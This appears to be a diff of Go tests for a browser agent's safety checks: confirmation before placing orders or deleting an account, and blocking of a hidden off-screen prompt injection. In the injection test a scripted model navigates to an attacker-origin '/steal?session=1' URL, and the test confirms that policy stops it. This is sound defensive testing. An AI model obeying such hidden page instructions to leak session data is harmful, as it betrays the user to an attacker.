@@ -1,4 +1,4 @@
-package app
+package runner
 
 import (
 	"regexp"
@@ -6,6 +6,7 @@ import (
 	"testing"
 
 	"vroom/agents"
+	"vroom/app/internal/apptest"
 	"vroom/internal/modeltest"
 )
 
@@ -24,22 +25,22 @@ func TestPlaceOrderNeedsConfirmation(t *testing.T) {
 	}{{"deny", agents.Deny, 0}, {"allow-once", agents.AllowOnce, 1}} {
 		t.Run(tc.name, func(t *testing.T) {
 			t.Parallel()
-			s := newSite(t)
+			s := apptest.NewSite(t)
 			var cf confirmations
 			h := newHarness(t, cf.answering(tc.decision))
-			scriptBuyer(h.srv, s)
+			apptest.ScriptBuyer(h.srv, s)
 			res := h.execute(t, "buy the mug")
 			asked := cf.list()
 			if len(asked) != 1 || !regexp.MustCompile(`^click e\d+$`).MatchString(asked[0].Action) || asked[0].Target != `button "Place order"` {
 				t.Fatalf("confirmations %+v", asked)
 			}
-			s.state(func(s *site) {
-				if s.orders != tc.orders {
-					t.Fatalf("the server received %d orders, want %d", s.orders, tc.orders)
+			s.State(func(s *apptest.Site) {
+				if s.Orders != tc.orders {
+					t.Fatalf("the server received %d orders, want %d", s.Orders, tc.orders)
 				}
 			})
 			var answered string
-			for _, r := range h.log.records(t) {
+			for _, r := range h.log.Records(t) {
 				if r.Event == agents.LogConfirmAnswered {
 					answered = r.Text
 				}
@@ -60,23 +61,23 @@ func TestPlaceOrderNeedsConfirmation(t *testing.T) {
 // asks before the click; denied, the site never hears of it.
 func TestFormNamesTheCommit(t *testing.T) {
 	t.Parallel()
-	s := newSite(t)
+	s := apptest.NewSite(t)
 	var cf confirmations
 	h := newHarness(t, cf.answering(agents.Deny))
-	h.srv.Script("planner", plannerScript(map[string]any{"task": "continue on the settings page", "url": s.URL + "/close.html"}))
+	h.srv.Script("planner", apptest.PlannerScript(map[string]any{"task": "continue on the settings page", "url": s.URL + "/close.html"}))
 	h.srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
 		if r.ToolResults() == 0 {
-			return call("click", "ref", modeltest.Ref(r.Text(), "button", "Continue"))
+			return apptest.Call("click", "ref", modeltest.Ref(r.Text(), "button", "Continue"))
 		}
-		return done("not continued: the user refused", false)
+		return apptest.Done("not continued: the user refused", false)
 	}})
 	h.execute(t, "continue")
 	if asked := cf.list(); len(asked) != 1 || !strings.Contains(asked[0].Reason, `the form "delete-account"`) {
 		t.Fatalf("confirmations %+v", asked)
 	}
-	s.state(func(s *site) {
-		if s.deletes != 0 {
-			t.Fatalf("the account was deleted %d times", s.deletes)
+	s.State(func(s *apptest.Site) {
+		if s.Deletes != 0 {
+			t.Fatalf("the account was deleted %d times", s.Deletes)
 		}
 	})
 }
@@ -87,19 +88,19 @@ func TestFormNamesTheCommit(t *testing.T) {
 // attacker's origin, the attacker gets nothing, and the run log says why.
 func TestInjectionBlocked(t *testing.T) {
 	t.Parallel()
-	s, attacker := newSite(t), newSite(t)
+	s, attacker := apptest.NewSite(t), apptest.NewSite(t)
 	// Another origin: same host, another port.
-	s.attacker = attacker.URL
+	s.Attacker = attacker.URL
 	h := newHarness(t, func(c *agents.Config) { c.Policy.ConfirmLeaveOrigin = true })
-	h.srv.Script("planner", plannerScript(map[string]any{"task": "mark the release notes as read", "url": s.URL + "/injection.html"}))
+	h.srv.Script("planner", apptest.PlannerScript(map[string]any{"task": "mark the release notes as read", "url": s.URL + "/injection.html"}))
 	var firstPrompt string
 	h.srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
 		switch r.ToolResults() {
 		case 0:
 			firstPrompt = r.LastText()
-			return call("navigate", "url", attacker.URL+"/steal?session=1") // obeys the page
+			return apptest.Call("navigate", "url", attacker.URL+"/steal?session=1") // obeys the page
 		}
-		return done("I was refused: "+tail(r.LastText(), 200), false)
+		return apptest.Done("I was refused: "+apptest.Tail(r.LastText(), 200), false)
 	}})
 	res := h.execute(t, "mark as read")
 	// The injection is off the page (left: -10000px): a person cannot see
@@ -110,13 +111,13 @@ func TestInjectionBlocked(t *testing.T) {
 	if !strings.Contains(firstPrompt, `<page_data source="`+s.URL+`/injection.html" trust="untrusted">`) {
 		t.Fatalf("the page is not fenced as untrusted data:\n%s", firstPrompt)
 	}
-	attacker.state(func(a *site) {
-		if a.hits != 0 {
-			t.Fatalf("the attacker got %d requests", a.hits)
+	attacker.State(func(a *apptest.Site) {
+		if a.Hits != 0 {
+			t.Fatalf("the attacker got %d requests", a.Hits)
 		}
 	})
 	var why string
-	for _, r := range h.log.records(t) {
+	for _, r := range h.log.Records(t) {
 		if r.Event == agents.LogPolicyDenied {
 			why = r.Error
 		}
